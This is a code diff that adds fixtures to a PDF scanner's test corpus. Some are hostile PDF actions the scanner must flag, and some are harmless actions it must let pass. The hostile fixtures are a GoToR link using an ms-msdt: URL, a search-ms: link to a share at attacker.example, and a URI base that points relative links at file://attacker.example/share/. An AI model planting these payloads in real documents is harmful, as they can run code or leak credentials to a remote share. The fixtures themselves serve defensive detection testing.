@@ -693,6 +693,33 @@ const huntedPdfs: CorpusItem[] = [
       { num: 6, gen: 1, body: '<< /Type /Annot /Subtype /Square /Rect [0 0 9 9] >>' },
     ]),
   ),
+  // A URL file specification handed to a program by its scheme: ms-msdt ran the link's own script.
+  hunted('pdf-gotor-url-spec-ms-msdt', 'PDF_ACTION', () =>
+    buildPdf(linkAnnotations('<< /S /GoToR /F << /FS /URL /F (ms-msdt:/id PCWDiagnostic /skip force) >> >>')),
+  ),
+  hunted('pdf-thread-url-spec-search-ms', 'PDF_ACTION', () =>
+    buildClassicPdf(
+      linkAnnotations(
+        '<< /S /Thread /F << /FS /URL /UF (search-ms:query=x&crumb=location:\\\\attacker.example\\s) >> /D 0 >>',
+      ),
+    ),
+  ),
+  // The catalog's /URI dictionary by reference: a relative link resolves into the share it names.
+  hunted('pdf-uri-base-by-reference-share', 'PDF_ACTION', () =>
+    buildPdf([
+      { num: 1, body: '<< /Type /Catalog /Pages 2 0 R /URI 9 0 R >>' },
+      ...linkAnnotations('<< /S /URI /URI (annex.pdf) >>').slice(1),
+      { num: 9, body: '<< /Base (file://attacker.example/share/) >>' },
+    ]),
+  ),
+  // A portfolio's Flash navigator, run by Acrobat 9 and X to show the portfolio.
+  hunted('pdf-portfolio-navigator', 'PDF_SCRIPT', () =>
+    buildPdf(
+      pageObjects(
+        `/Collection << /View /C /Navigator << /Layout /Tile /Resources << /Names [(nav.swf) ${URL_SPEC}] >> >> >>`,
+      ),
+    ),
+  ),
 ];
 
 /** PDFs whose structure cannot be read whole. */
@@ -2525,5 +2552,32 @@ export const ACTIVE_GENUINE: readonly {
     id: 'pdf-update-reuses-number-next-generation',
     declared: 'pdf',
     bytes: async () => reusedNumberPdf(2),
+  },
+  {
+    // Layers switched, a field hidden, a page transition: actions that change only what the page shows.
+    id: 'pdf-links-setocgstate-hide-trans',
+    declared: 'pdf',
+    bytes: async () =>
+      buildPdf(
+        linkAnnotations(
+          '<< /S /SetOCGState /State [/Toggle 9 0 R] >>',
+          '<< /S /Hide /T (note) /H false >>',
+          '<< /S /Trans /Trans << /S /Dissolve >> >>',
+        ),
+      ),
+  },
+  {
+    // Prepress OPI: the original image a prepress server swaps in; no reader opens it.
+    id: 'pdf-image-opi-dictionary',
+    declared: 'pdf',
+    bytes: async () =>
+      buildPdf([
+        ...pageObjects('', '/Resources << /XObject << /Im1 6 0 R >> >>'),
+        {
+          num: 6,
+          body: '/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /OPI << /2.0 << /Type /OPI /Version 2.0 /F (art/cluster-map.tif) /Inks /full_color >> >>',
+          stream: Buffer.alloc(1),
+        },
+      ]),
   },
 ];
